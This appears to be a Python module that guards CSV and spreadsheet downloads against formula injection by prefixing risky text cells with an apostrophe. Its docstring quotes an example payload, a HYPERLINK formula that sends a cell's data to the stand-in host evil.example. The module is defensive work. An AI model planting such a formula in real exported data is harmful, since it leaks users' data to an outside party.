"""Cells for CSV and spreadsheet downloads, safe to open in a spreadsheet.

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula, and runs it when the file is opened: an action titled
``=HYPERLINK("https://evil.example/?"&A1,"Click")`` would send a resident's data away. As OWASP
recommends for CSV injection, such text gets a leading apostrophe, which spreadsheets show as
text and do not store. Numbers stay numbers: only text is changed. Every download passes its
cells through here: the CSV files (pandas writes the downloads, the csv module charts' data)
and the spreadsheets (spreadsheets.py, for downloads and progress returns).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a spreadsheet shows it and never runs it: text that would start a formula
    gets a leading apostrophe; numbers, empty cells and other text are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_cell(value):
    """A safe cell whose line breaks are all ``\n``: the csv module quotes a cell holding the
    line terminator, but not a lone carriage return, which some readers take for a new row."""
    value = safe_cell(value)
    if isinstance(value, str) and "\r" in value:
        return value.replace("\r\n", "\n").replace("\r", "\n")
    return "" if value is None else value


def csv_text(headers: Iterable, rows: Iterable[Iterable]) -> str:
    """CSV with a header row, every cell made safe (:func:`safe_cell`); None is left empty."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_cell(header) for header in headers])
    writer.writerows([csv_cell(cell) for cell in row] for row in rows)
    return out.getvalue()
